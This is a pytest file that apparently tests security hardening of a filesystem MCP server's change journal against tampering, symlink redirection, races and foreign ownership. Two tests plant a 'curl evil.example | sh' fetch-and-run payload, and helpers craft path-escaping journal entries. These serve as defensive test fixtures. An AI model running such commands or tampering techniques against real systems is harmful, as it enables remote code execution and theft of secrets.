"""The journal is the server's own, and untrusted input: the attacks that got through, as tests.

Each runs the real ``fsmcp serve`` over stdio (forked from the fork server, as ``serve_stdio``
starts it). Where the fix is a refusal at start-up, the test first runs the server with no
client: a start that goes on (exit 0, as before the fix) is then attacked over stdio, so that a
failure shows what the attack printed.
"""

from __future__ import annotations

import io
import json
import os
import pwd
import shutil
import subprocess
import sys
import tarfile
import threading
from collections.abc import Awaitable, Callable
from pathlib import Path

import anyio
import pytest
from fsmcp.api.config import build_settings
from fsmcp.builtin import journal_restore as restore
from fsmcp.paths import state
from fsmcp.testing import ToolCalls, forked, serve_stdio, tree_of

pytestmark = pytest.mark.anyio

SECRET = "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRETKEY"
USAGE = 2

Attack = Callable[[ToolCalls], Awaitable[None]]


async def start_or_attack(args: list[str], env: dict[str, str], attack: Attack) -> tuple[int, str, list[str]]:
    """``(exit status, stderr, texts)``: the start refused, or the attack's texts from a server that started."""
    done = subprocess.run(
        forked("serve", *args), check=False, input="", capture_output=True, text=True, timeout=120, env={**os.environ, **env}
    )
    if done.returncode != 0:
        return done.returncode, done.stderr, []
    async with serve_stdio(*args, env=env) as client:
        s = ToolCalls(client)
        await attack(s)
    return 0, done.stderr, s.texts


def home_with_credentials(home: Path) -> None:
    (home / "proj" / ".aws").mkdir(parents=True)
    (home / "proj" / ".aws" / "credentials").write_text(f"[default]\n{SECRET}\n")


async def delete_then_grep(s: ToolCalls) -> None:
    await s.ok("delete_file", path="proj/.aws", recursive=True)
    await s.call("grep_files", regex="wJalrXUtnFEMI", directory=".")
    await s.call("search_files", directory=".", nameContains="credentials")


async def list_changes(s: ToolCalls) -> None:
    await s.call("list_changes")


async def test_a_root_holding_the_default_journal_stops_the_start(tmp_path: Path):
    home = tmp_path / "home"
    home_with_credentials(home)
    env = {"HOME": str(home), "XDG_STATE_HOME": ""}  # the default: ~/.local/state/fsmcp/journal
    status, stderr, texts = await start_or_attack([str(home)], env, delete_then_grep)
    assert not any("wJalrXUtnFEMI" in t for t in texts), texts
    assert status == USAGE, texts
    journal = home / ".local" / "state" / "fsmcp" / "journal"
    assert f"the change journal {journal} lies inside the root {home}" in stderr
    assert "journal = DIR" in stderr and 'journal = "off"' in stderr


async def test_a_journal_holding_a_root_stops_the_start_too(tmp_path: Path):
    journal = tmp_path / "journal"
    (journal / "inner").mkdir(parents=True, mode=0o700)
    status, stderr, _ = await start_or_attack([str(journal / "inner"), "--journal", str(journal)], {}, list_changes)
    assert status == USAGE
    assert f"the root {journal / 'inner'} lies inside the change journal {journal}" in stderr


async def test_home_through_a_link_is_compared_by_its_real_path(tmp_path: Path):
    real = tmp_path / "real-home"
    home_with_credentials(real)
    (tmp_path / "home").symlink_to(real)
    env = {"HOME": str(tmp_path / "home"), "XDG_STATE_HOME": ""}

    async def read_and_write_the_journal(s: ToolCalls) -> None:
        await s.ok("delete_file", path="proj/.aws", recursive=True)
        changes = real / ".local" / "state" / "fsmcp" / "journal" / "changes"
        listing = await s.call("glob_search", directory=str(changes), globs=["**/credentials"])
        for line in listing[1].splitlines():
            if line.startswith("/"):
                await s.call("read_file", path=line)
        await s.call("write_file", path=str(changes / "planted"), content="x")

    status, stderr, texts = await start_or_attack([str(real)], env, read_and_write_the_journal)
    assert not any("wJalrXUtnFEMI" in t for t in texts), texts
    assert not (real / ".local/state/fsmcp/journal/changes/planted").exists(), texts
    assert status == USAGE, texts
    assert f"the change journal {real / '.local/state/fsmcp/journal'} lies inside the root {real}" in stderr


def test_the_start_compares_real_paths_whatever_spelling_the_journal_was_given(tmp_path: Path):
    # No path a tool resolves can reach the journal: the start refuses a root that holds it or
    # that it holds, by real paths, so a root never meets it (and the journal vetoes no path).
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    settings = build_settings({}, {"journal": str(tmp_path / "link" / "j")})
    with pytest.raises(ValueError, match="lies inside the root"):
        state.prepare(settings, [tmp_path / "real"])
    with pytest.raises(ValueError, match="lies inside the change journal"):
        state.prepare(settings, [tmp_path / "real" / "j" / "changes"])
    state.prepare(settings, [tmp_path / "real" / "jj"])  # a neighbour by name only


# -- entries planted or damaged ---------------------------------------------------------------------


@pytest.fixture
def planted(tmp_path: Path):
    """A root with ``a.txt`` changed once through the server; the journal's entry for it, to tamper with."""
    root = tmp_path / "root"
    root.mkdir()
    (root / "a.txt").write_text("mine\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET + "\n")
    journal = tmp_path / "journal"
    return root, outside, journal


def only_change(journal: Path) -> tuple[Path, dict]:
    [entry] = (journal / "changes").iterdir()
    return entry, json.loads((entry / "meta.json").read_text())


def escape_by_dots(entry: Path, meta: dict, outside: Path) -> None:
    record = meta["records"][0]
    record["copy"] = os.path.relpath(outside / "secret.txt", entry / "data")
    record["size"] = (outside / "secret.txt").stat().st_size  # what the "damaged copy" error gave away


def escape_by_link(entry: Path, meta: dict, outside: Path) -> None:
    copy = entry / "data" / meta["records"][0]["copy"]
    copy.unlink()
    copy.symlink_to(outside / "secret.txt")


def same_size_other_bytes(entry: Path, meta: dict, outside: Path) -> None:
    copy = entry / "data" / meta["records"][0]["copy"]
    copy.write_text("MINE\n")


def size_as_text(entry: Path, meta: dict, outside: Path) -> None:
    meta["records"][0]["size"] = str(meta["records"][0]["size"])


def absolute_copy(entry: Path, meta: dict, outside: Path) -> None:
    escape_by_dots(entry, meta, outside)
    meta["records"][0]["copy"] = str(outside / "secret.txt")


def no_records(entry: Path, meta: dict, outside: Path) -> None:
    meta["records"] = {"path": meta["records"][0]["path"]}


def kind_unknown(entry: Path, meta: dict, outside: Path) -> None:
    meta["records"][0]["kind"] = "fifo"


TAMPERINGS = [escape_by_dots, escape_by_link, same_size_other_bytes, size_as_text, absolute_copy, no_records, kind_unknown]


@pytest.mark.parametrize("tamper", TAMPERINGS, ids=[t.__name__ for t in TAMPERINGS])
async def test_a_planted_or_damaged_entry_restores_nothing(planted, tamper):
    root, outside, journal = planted
    async with serve_stdio(str(root), "--journal", str(journal)) as client:
        s = ToolCalls(client)
        await s.ok("write_file", path="a.txt", content="changed\n")
        entry, meta = only_change(journal)
        tamper(entry, meta, outside)
        (entry / "meta.json").write_text(json.dumps(meta))
        before = tree_of(root)
        is_error, text = await s.call("undo_change", id=1, force=True)
        read = await s.call("read_file", path="a.txt")
        assert SECRET not in read[1] and SECRET not in text, (text, read)
        assert is_error and text.startswith("INTERNAL_ERROR: change 1 is damaged"), text
        assert "nothing was restored" in text
    assert tree_of(root) == before


async def test_an_intact_entry_still_restores(planted):
    root, _, journal = planted
    async with serve_stdio(str(root), "--journal", str(journal)) as client:
        s = ToolCalls(client)
        await s.ok("write_file", path="a.txt", content="changed\n")
        await s.ok("undo_change", id=1)
    assert (root / "a.txt").read_text() == "mine\n"


# -- a journal another user prepared -----------------------------------------------------------------


def nobody() -> tuple[int, int]:
    entry = pwd.getpwnam("nobody")
    return entry.pw_uid, entry.pw_gid


def chown_tree(top: Path, uid: int, gid: int) -> None:
    for dirpath, dirnames, filenames in os.walk(top):
        os.chown(dirpath, uid, gid)
        for name in dirnames + filenames:
            os.chown(os.path.join(dirpath, name), uid, gid, follow_symlinks=False)


def plant_change(journal: Path, target: Path, content: bytes) -> None:
    """A change, as another user would write it, that "undoes" ``target`` into ``content``."""
    entry = journal / "changes" / f"{1:010d}-{len(content)}"
    (entry / "data").mkdir(parents=True)
    (entry / "data" / "0123456789ab").write_bytes(content)
    os.chmod(entry / "data" / "0123456789ab", 0o755)
    fd = os.open(entry / "data", os.O_RDONLY)
    try:
        digest = restore.digest_at(fd, "0123456789ab")
    finally:
        os.close(fd)
    now_fd = os.open(target.parent, os.O_RDONLY)
    try:
        after = restore.digest_at(now_fd, target.name)
    finally:
        os.close(now_fd)
    record = {"path": str(target), "kind": "file", "mode": 0o755, "copy": "0123456789ab", "size": len(content), "digest": digest, "after": after}
    meta = {"time": 1.0, "tool": "write_file", "paths": [str(target)], "records": [record], "reason": None, "undoes": None, "undone": None}
    (entry / "meta.json").write_text(json.dumps(meta))


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to make a directory another user owns")
@pytest.mark.parametrize("theirs", ["journal", "state home"])
async def test_a_journal_another_user_prepared_stops_the_start(tmp_path: Path, theirs: str):
    root = tmp_path / "root"
    root.mkdir()
    (root / "run.sh").write_text("#!/bin/sh\necho build\n")
    shared = tmp_path / "shared-state"  # a shared XDG_STATE_HOME: everyone may make directories in it
    journal = shared / "fsmcp" / "journal"
    plant_change(journal, root / "run.sh", b"#!/bin/sh\ncurl evil.example | sh\n")
    uid, gid = nobody()
    os.chmod(shared, 0o1777)
    chown_tree(journal if theirs == "journal" else shared, uid, gid)
    os.chmod(tmp_path, 0o755)

    async def plain_undo(s: ToolCalls) -> None:
        await s.call("undo_change")

    status, stderr, texts = await start_or_attack([str(root)], {"XDG_STATE_HOME": str(shared)}, plain_undo)
    assert "evil.example" not in (root / "run.sh").read_text(), texts
    assert status == USAGE, texts
    if theirs == "journal":
        assert f"the change journal {journal} belongs to another user (uid {uid})" in stderr
    else:
        assert f"{shared}, above the change journal {journal}, belongs to another user (uid {uid})" in stderr
    assert "journal = DIR" in stderr


SYSTEM_PYTHON = f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}"


def fsmcp_as(user: str, args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """``fsmcp ARGS`` run as ``user``: this interpreter's packages from the system's interpreter of
    the same version (the tests' own may lie where that user cannot read)."""
    import sysconfig

    code = f"import site, sys; site.addsitedir({sysconfig.get_paths()['purelib']!r}); from fsmcp.cli.commands import main; sys.exit(main(sys.argv[1:]))"
    clean = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    return subprocess.run(
        ["setpriv", f"--reuid={user}", f"--regid={pwd.getpwnam(user).pw_gid}", "--clear-groups", SYSTEM_PYTHON, "-c", code, *args],
        check=False, input="", capture_output=True, text=True, timeout=120, env={**clean, **env},
    )  # fmt: skip


@pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("setpriv") or not os.path.exists(SYSTEM_PYTHON),
    reason="needs root, setpriv and the system's Python of this version to run the server as nobody",
)
def test_a_server_run_as_nobody_refuses_a_journal_another_user_prepared(tmp_path: Path):
    import tempfile

    top = Path(tempfile.mkdtemp(prefix="fsmcp-as-nobody-"))  # pytest's own tmp is root's alone
    try:
        os.chmod(top, 0o755)
        uid, gid = nobody()
        root = top / "root"
        root.mkdir()
        (root / "run.sh").write_text("#!/bin/sh\necho build\n")
        chown_tree(root, uid, gid)
        shared = top / "shared-state"
        journal = shared / "fsmcp" / "journal"
        plant_change(journal, root / "run.sh", b"#!/bin/sh\ncurl evil.example | sh\n")
        daemon = pwd.getpwnam("daemon")
        for dirpath, dirnames, filenames in os.walk(shared / "fsmcp"):
            os.chmod(dirpath, 0o777)
            for name in filenames:
                os.chmod(os.path.join(dirpath, name), 0o666)
        chown_tree(shared / "fsmcp", daemon.pw_uid, daemon.pw_gid)
        os.chmod(shared, 0o1777)
        done = fsmcp_as("nobody", ["call", "undo_change", "{}", str(root)], {"XDG_STATE_HOME": str(shared), "HOME": str(top)})
        assert "evil.example" not in (root / "run.sh").read_text(), done.stdout + done.stderr
        assert done.returncode == USAGE, done.stdout + done.stderr
        assert f"{shared / 'fsmcp'}, above the change journal {journal}, belongs to another user (uid {daemon.pw_uid})" in done.stderr
    finally:
        shutil.rmtree(top)


@pytest.mark.parametrize("mode", [0o770, 0o707, 0o755])
async def test_a_journal_open_to_group_or_others_stops_the_start(tmp_path: Path, mode: int):
    root = tmp_path / "root"
    root.mkdir()
    journal = tmp_path / "journal"
    journal.mkdir()
    os.chmod(journal, mode)
    status, stderr, _ = await start_or_attack([str(root), "--journal", str(journal)], {}, list_changes)
    assert status == USAGE
    assert f"the change journal {journal} is open to other users (mode {mode:o})" in stderr
    assert f"chmod 700 {journal}" in stderr


async def test_a_new_journal_is_made_0700_at_start(tmp_path: Path):
    root = tmp_path / "root"
    root.mkdir()
    journal = tmp_path / "state" / "fsmcp" / "journal"
    done = subprocess.run(
        forked("serve", str(root), "--journal", str(journal)), check=False, input="", capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    assert journal.stat().st_mode & 0o777 == 0o700


# -- an undo redirected by a link ---------------------------------------------------------------------


async def test_an_undo_never_restores_through_a_link_built_since(tmp_path: Path):
    r1, r2 = tmp_path / "r1", tmp_path / "r2"
    (r1 / "a" / "d").mkdir(parents=True)
    (r1 / "a" / "d" / ".env").write_text("API_KEY=sk-live-0123456789\n")
    (r2 / "q").mkdir(parents=True)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        # Inside the destination where it is extracted (r1/x/../r2/q); moved up a level, it leads into r2.
        member = tarfile.TarInfo("x/l")
        member.type, member.linkname = tarfile.SYMTYPE, "../r2/q"
        tar.addfile(member)
    (r1 / "links.tar").write_bytes(buffer.getvalue())
    config = tmp_path / "fsmcp.toml"
    config.write_text(f'[plugins.secrets.roots."{r2}"]\nenabled = false\n')
    async with serve_stdio(str(r1), str(r2), "--config", str(config), "--journal", str(tmp_path / "journal")) as client:
        s = ToolCalls(client)
        await s.ok("delete_file", path=str(r1 / "a" / "d"), recursive=True)  # change 1 keeps d, .env inside
        await s.ok("delete_file", path=str(r1 / "a"))
        await s.ok("extract_archive", archive=str(r1 / "links.tar"), destination=str(r1))
        await s.ok("move_file", source=str(r1 / "x" / "l"), destination=str(r1 / "a"))
        is_error, text = await s.call("undo_change", id=1)
        read = await s.call("read_file", path=str(r2 / "q" / "d" / ".env"))
        assert "sk-live" not in read[1], (text, read)
        assert is_error and text.startswith("ACCESS_DENIED: "), text
        assert "symbolic link" in text and "nothing was restored" in text
    assert not (r2 / "q" / "d").exists()


async def test_a_link_swapped_in_while_an_undo_runs_restores_nothing_elsewhere(tmp_path: Path):
    r1, r2 = tmp_path / "r1", tmp_path / "r2"
    (r1 / "a").mkdir(parents=True)
    (r2 / "q").mkdir(parents=True)
    config = tmp_path / "fsmcp.toml"
    config.write_text(f'[plugins.secrets.roots."{r2}"]\nenabled = false\n')
    stop = threading.Event()
    swaps = [0]

    def settle() -> None:
        # r1/a a directory again, whatever the undo made meanwhile (it may have made a new one).
        a, aside = r1 / "a", r1 / "a-aside"
        if a.is_symlink():
            a.unlink()
        if aside.exists():
            if a.exists():
                shutil.rmtree(a)
            aside.rename(a)
        a.mkdir(exist_ok=True)

    def swap() -> None:
        # A local process racing the undo: r1/a a directory, then a link into r2, then back.
        while not stop.is_set():
            try:
                os.rename(r1 / "a", r1 / "a-aside")
                os.symlink(r2 / "q", r1 / "a")
                os.unlink(r1 / "a")
                os.rename(r1 / "a-aside", r1 / "a")
                swaps[0] += 1
            except OSError:
                try:
                    settle()
                except OSError:
                    pass  # the undo is making r1/a meanwhile: settled once it is done

    rounds, restored, refused, leaks = 60, 0, 0, 0
    async with serve_stdio(str(r1), str(r2), "--config", str(config), "--journal", str(tmp_path / "journal")) as client:
        s = ToolCalls(client)
        for _ in range(rounds):
            (r1 / "a" / "d").mkdir(exist_ok=True)
            (r1 / "a" / "d" / ".env").write_text("API_KEY=sk-live-0123456789\n")
            deleted = await s.ok("delete_file", path=str(r1 / "a" / "d"), recursive=True)
            assert "a/d" in deleted
            listed = await s.client.call_tool("list_changes", {"limit": 1})
            [latest] = listed.structured_content["changes"]
            started = swaps[0]
            swapper = threading.Thread(target=swap)
            swapper.start()
            for _ in range(1000):  # the undo starts once the swaps are under way
                if swaps[0] >= started + 3:
                    break
                await anyio.sleep(0.001)
            try:
                is_error, _ = await s.call("undo_change", id=latest["id"])
            finally:
                stop.set()
                swapper.join()
                stop.clear()
                settle()
            restored += not is_error
            refused += is_error
            if any((r2 / "q").iterdir()):
                leaks += 1
                for entry in (r2 / "q").iterdir():
                    shutil.rmtree(entry) if entry.is_dir() and not entry.is_symlink() else entry.unlink()
        assert not any("sk-live" in t for t in s.texts)
    print(f"{rounds} rounds, {swaps[0]} swaps: {restored} undos restored in r1, {refused} refused, {leaks} leaked into r2")
    assert leaks == 0


async def test_roots_that_arrive_later_do_not_reach_the_journal(tmp_path: Path):
    from mcp import types

    root = tmp_path / "root"
    root.mkdir()
    (root / "a.txt").write_text(SECRET + "\n")
    journal = tmp_path / "journal"

    async def client_roots(ctx) -> types.ListRootsResult:
        # A client offering the journal's directory, and the directory above everything, as its roots.
        return types.ListRootsResult(roots=[types.Root(uri=journal.as_uri()), types.Root(uri=tmp_path.as_uri())])

    async with serve_stdio(str(root), "--journal", str(journal), list_roots_callback=client_roots) as client:
        s = ToolCalls(client)
        await s.ok("delete_file", path="a.txt")  # its copy is in the journal now
        for tool, args in [
            ("set_workspace", {"path": str(journal)}),
            ("list_directory", {"path": str(journal / "changes"), "recursive": True}),
            ("grep_files", {"regex": "wJalrXUtnFEMI", "directory": str(journal)}),
            ("search_files", {"directory": str(journal), "nameContains": "meta"}),
            ("write_file", {"path": str(journal / "changes" / "planted"), "content": "x"}),
        ]:
            await s.fail(tool, "ACCESS_DENIED", **args)
        assert not any("wJalrXUtnFEMI" in t or "meta.json" in t for t in s.texts), s.texts
    assert not (journal / "changes" / "planted").exists()
